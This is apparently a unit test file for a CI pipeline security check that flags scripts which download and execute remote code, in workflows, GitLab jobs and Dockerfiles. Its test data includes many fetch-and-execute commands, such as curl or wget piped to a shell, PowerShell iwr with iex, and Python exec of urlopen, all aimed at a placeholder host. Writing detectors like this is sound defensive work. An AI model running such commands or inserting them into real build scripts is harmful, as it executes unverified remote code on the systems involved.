# SPDX-License-Identifier: Apache-2.0
"""script-downloaded."""

from __future__ import annotations

import pytest

from pipeline_guard.gate.checks.script_downloaded import check
from pipeline_guard.gate.facts import Kind
from tests.unit.gate.checking import failing, lines, scripts, whole


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsSL https://h.example/i.sh | sh",
        "curl https://h.example/i.sh | sudo -E bash -",
        "wget -qO- https://h.example/i.sh | tee log | bash -s -- --yes",
        "curl -sSL https://h.example | python3 -",
        "bash <(curl -s https://h.example/i.sh)",
        'sh -c "$(curl -fsSL https://h.example/i.sh)"',
        "source <(curl -s https://h.example)",
        "curl https://h.example \\\n  | bash",
        "wget -O- https://h.example | xargs -I{} bash -c '{}'",
        "bash -c 'curl https://h.example | sh'",
        "docker run x sh -c 'wget -O- https://h.example | sh'",
        "python3 -c 'import urllib.request as u; exec(u.urlopen(\"https://h.example\").read())'",
        "curl -o i.sh https://h.example/i && sh i.sh",
        "curl -fsSLo ./i.sh https://h.example/i; sudo bash ./i.sh --yes",
        "curl --output=i https://h.example/i && chmod +x i && ./i",
        "curl -sSLO https://h.example/tool?x=1 && ./tool",
        "curl https://h.example/i > i.sh && . ./i.sh",
        "wget -q https://h.example/i.sh && source i.sh",
        "wget https://h.example/i -O /tmp/i && python3 /tmp/i",
        "git clone -q https://h.example/a/b t && ./t/run.sh",
        "git clone --depth 1 https://h.example/a/b.git && bash b/run.sh",
        "iwr https://h.example/i.ps1 -useb | iex",
        "iex ((New-Object Net.WebClient).DownloadString('https://h.example/i.ps1'))",
    ],
)
def test_running_what_is_downloaded_fails(command: str) -> None:
    assert lines(check, scripts(f"true\n{command}")) == [7]


@pytest.mark.parametrize(
    "command",
    [
        "curl -o f https://h.example/f && sha256sum --check sums && sh f",
        "curl -o f https://h.example/f && gpg --verify f.sig f && sh f",
        "git clone https://h.example/a/b && git -C b checkout 0123456789abcdef0123456789abcdef01234567 && sh b/run.sh",
        "git clone https://h.example/$GITHUB_REPOSITORY b && sh b/run.sh",
        "git clone https://h.example/a/b && cat b/README && sh bb/run.sh",
        "curl -o f.json https://h.example/f && python3 own.py f.json",
        "curl -o f https://h.example/f && bash own.sh f",
        "curl -o f http://localhost:80/f && sh f",
        "curl -sO https://h.example/f.tgz && tar xzf f.tgz",
        "cat <<END\ncurl https://h.example | sh\nEND",
        "curl https://h.example/a.json | jq .",
        "curl https://h.example/a.json | python3 -m json.tool",
        "curl https://h.example/a.json | python3 -c 'import sys'",
        "curl http://localhost:8080/health | sh",
        "echo 'curl x | sh'",
        "# curl https://h.example | sh",
        "curl https://h.example | sh -c 'cat'",
        "cat local.sh | bash",
        "curl https://h.example | grep x && bash own.sh",
    ],
)
def test_data_files_and_own_scripts_pass(command: str) -> None:
    assert failing(check, scripts(command)) == []


def test_dockerfiles_and_gitlab_jobs_are_looked_at_too() -> None:
    files = {
        "Dockerfile": "FROM scratch\nRUN a && \\\n  curl https://h.example | sh\nRUN <<EOF\nwget -O- https://h.example | sh\nEOF\n",
        ".gitlab-ci.yml": "job:\n  script:\n    - curl https://h.example | sh\n",
    }
    assert [lines(check, item) for kind, item in whole(files) if kind is Kind.SCRIPT] == [[3, 5], [3]]


@pytest.mark.parametrize("text", ["bash <<END\ncurl https://h.example | sh\nEND", "cat <<'END' | bash\ncurl https://h.example | sh\nEND"])
def test_a_script_that_is_fed_to_a_shell_is_read_too(text: str) -> None:
    assert lines(check, scripts(text)) == [7]


def test_a_file_is_followed_through_the_steps_of_its_job_only() -> None:
    step = "      - run: {}\n"
    fetched, run, compared = step.format("curl -O https://h.example/i.sh"), step.format("sh i.sh"), step.format("sha256sum -c sums")
    path = ".github/workflows/w.yml"

    def found(first: str, second: str = "") -> list[int]:
        text = f"on: push\njobs:\n  a:\n    steps:\n{first}  b:\n    steps:\n{second or step.format('x')}"
        return next(lines(check, item) for kind, item in whole({path: text}) if kind is Kind.SCRIPT)

    assert found(fetched + run) == [6]
    assert found(fetched + compared + run) == []
    assert found(fetched, run) == []


def test_every_form_of_a_dockerfile_is_read() -> None:
    fetch = "curl https://h.example | sh"
    text = (
        f'FROM scratch\nRUN ["sh", "-c", "{fetch}"]\nRUN <<END bash\n{fetch}\nEND\nRUN --mount=type=cache,target=/x <<END\n{fetch}\nEND\n'
        f"RUN bash <<END\n{fetch}\nEND\nCMD {fetch}\nHEALTHCHECK --interval=5s CMD {fetch}\nRUN [broken\n"
    )
    assert [lines(check, item) for kind, item in whole({"Dockerfile": text}) if kind is Kind.SCRIPT] == [[2, 4, 7, 10, 12, 13]]


@pytest.mark.parametrize(
    ("command", "number"),
    [
        ("curl -LO https://h.example/t.tgz\ntar xzf t.tgz\n./t/install.sh", 1),
        ("curl -Lo t.zip https://h.example/t\nunzip -q t.zip -d tools\nbash tools/run.sh", 1),
        ("curl -L https://h.example/t.tgz | tar xz -C tools\n./tools/x", 1),
        ("git clone https://gitlab-ci-token:$CI_JOB_TOKEN@h.example/g/t.git t\n./t/run.sh", 1),
        ("curl -LO https://h.example/t.tgz\nsha256sum -c t.sum\ntar xzf t.tgz\n./t/install.sh", 0),
        ("curl -LO https://h.example/t.tgz\ntar xzf t.tgz\n./own/install.sh", 0),
        ("tar xzf own.tgz\n./own/install.sh", 0),
        ("git clone https://$HOST/g/t.git t\n./t/run.sh", 0),
    ],
)
def test_what_an_archive_or_a_clone_brings_is_followed(command: str, number: int) -> None:
    assert len(failing(check, scripts(command))) == number
